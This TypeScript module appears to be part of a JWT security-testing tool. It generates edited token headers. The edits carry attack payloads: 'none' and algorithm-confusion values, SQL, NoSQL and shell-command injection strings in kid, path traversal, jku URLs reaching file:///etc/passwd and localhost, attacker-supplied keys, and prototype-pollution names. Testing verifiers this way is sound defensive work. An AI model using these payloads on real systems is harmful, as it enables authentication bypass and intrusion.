import { EC_JWK, KEYS_URL, OCT_JWK, RSA_DER, RSA_JWK } from './attacker.js';
import { doubling, escaping, type MemberEdit, removing, replacing } from './members.js';

const HEADER = 'header';
const quoted = (texts: readonly string[]) => texts.map((text) => JSON.stringify(text));

/** Values of header parameters, as JSON, by name. */
const VALUES: Readonly<Record<string, readonly string[]>> = {
  alg: [
    ...quoted(['none', 'None', 'NONE', 'nOnE', 'HS384', 'HS512', 'hs256', 'RS256', 'RS512']),
    ...quoted(['ES256', 'PS256', 'EdDSA', 'HMACSHA256', 'HS256 ', 'HS256\0', '', 'dir', 'A256KW']),
    ...quoted(['constructor', '__proto__', 'HS256,none', 'HS25６']),
    ...['null', 'true', '256', '[]', '["HS256"]', '["none","HS256"]', '{"HS256":true}', '{}'],
  ],
  typ: [...quoted(['JWS', 'at+jwt', 'JOSE', 'jwt', 'JWE', '']), '7', 'null', '{}', '["JWT"]'],
  cty: [...quoted(['JWT', 'application/json', '']), '1', 'null'],
  crit: ['[]', '["exp"]', '["b64"]', '["alg"]', 'null', 'false', '"exp"', '{}', '0'],
  b64: ['false', 'true', 'null', '"false"', '0'],
  kid: [
    ...quoted(['x', '', '/dev/null', '../../../../dev/null', 'file:///dev/null', '|id', '\0']),
    ...quoted(["' OR 1=1 --", "x' UNION SELECT 'secret", '__proto__', 'constructor', '$(id)']),
    ...quoted(['\ud800', KEYS_URL, '0', 'x'.repeat(2_000)]),
    ...['{}', '[]', '["x"]', '1', '0', 'null', 'true', '{"$ne":null}'],
  ],
  jku: [...quoted([KEYS_URL, 'file:///etc/passwd', 'http://127.0.0.1/', '']), 'null', '1', '[]'],
  x5u: [...quoted([KEYS_URL, 'data:,x']), '{}', 'null'],
  x5c: [JSON.stringify([RSA_DER]), '[]', '["x"]', `"${RSA_DER}"`, 'null'],
  x5t: quoted(['AAAA', '']),
  'x5t#S256': quoted(['AAAA']),
  jwk: [RSA_JWK, EC_JWK, OCT_JWK, '{}', '{"kty":"oct","k":""}', 'null', '"x"', '[]'],
  zip: [...quoted(['DEF', 'GZIP']), 'null'],
  enc: [...quoted(['A256GCM', 'A128CBC-HS256']), 'null'],
  epk: [EC_JWK],
  p2s: quoted(['AAAA']),
  p2c: ['1000000000', '-1', '1e400'],
  exp: ['0', '99999999999'],
  iss: quoted(['joe']),
  nonce: quoted(['x']),
  url: quoted([KEYS_URL]),
  ppt: quoted(['shaken']),
  ['__proto__']: ['{"alg":"none"}', '{"alg":"HS256"}', 'null', '{"crit":["x"]}'],
  constructor: ['{"prototype":{"alg":"none"}}', '1'],
  toString: ['1', 'null'],
  hasOwnProperty: ['1', 'null'],
  valueOf: ['"HS256"'],
  toJSON: ['"x"'],
  length: ['3'],
  '': ['1'],
  ALG: quoted(['none']),
  'alg ': quoted(['none']),
};

const edited = Object.entries(VALUES).flatMap(([name, values]) =>
  values.map((value) => replacing(HEADER, name, value)),
);

const DOUBLED: readonly (readonly [name: string, value: string])[] = [
  ['alg', '"none"'],
  ['alg', '"HS256"'],
  ['alg', '"HS512"'],
  ['typ', '"JWT"'],
  ['crit', '["exp"]'],
  ['jwk', RSA_JWK],
];

/** All edits of one header parameter. */
export const HEADER_EDITS: readonly MemberEdit[] = [
  ...edited,
  removing(HEADER, 'alg'),
  removing(HEADER, 'typ'),
  ...DOUBLED.flatMap(([name, value]) => [
    doubling(HEADER, name, value, true),
    doubling(HEADER, name, value, false),
  ]),
  ...DOUBLED.map(([name, value]) => escaping(HEADER, name, value)),
  escaping(HEADER, 'b64', 'false'),
  escaping(HEADER, 'kid', '1'),
];
